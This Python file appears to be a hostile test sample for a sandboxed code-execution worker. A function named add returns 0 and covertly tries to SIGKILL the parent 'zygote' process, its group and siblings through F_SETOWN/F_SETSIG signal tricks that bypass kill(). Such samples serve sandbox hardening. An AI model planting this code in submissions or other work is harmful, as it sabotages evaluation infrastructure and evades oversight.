# ruff: noqa
# poisoning: signals that are not sent with kill(): F_SETOWN + F_SETSIG(SIGKILL) + O_ASYNC makes the kernel
# signal pid 1 (the zygote) and its group when a pipe gets data; also SIGURG via F_SETOWN on a socket and
# the parent-death signal; the next sample in this worker then meets a dead zygote
import fcntl, os, signal, socket


def _targets():
    """pid 1 (the zygote) and the siblings; without a pid namespace only our own zygote, never the host's."""
    if os.getppid() != 1:
        return [os.getppid()]
    return [1] + [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in (1, os.getpid())]


def add(a, b):
    F_SETSIG = 10
    for owner in _targets()[:1] + [-_targets()[0], os.getppid()]:
        try:
            r, w = os.pipe()
            fcntl.fcntl(r, fcntl.F_SETOWN, owner)
            fcntl.fcntl(r, F_SETSIG, signal.SIGKILL)
            fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | os.O_ASYNC)
            os.write(w, b"x")
        except OSError:
            pass
        try:
            s1, s2 = socket.socketpair()
            fcntl.fcntl(s1.fileno(), fcntl.F_SETOWN, owner)
            fcntl.fcntl(s1.fileno(), F_SETSIG, signal.SIGKILL)
            fcntl.fcntl(s1.fileno(), fcntl.F_SETFL, os.O_ASYNC)
            s2.send(b"x")
        except OSError:
            pass
    return 0
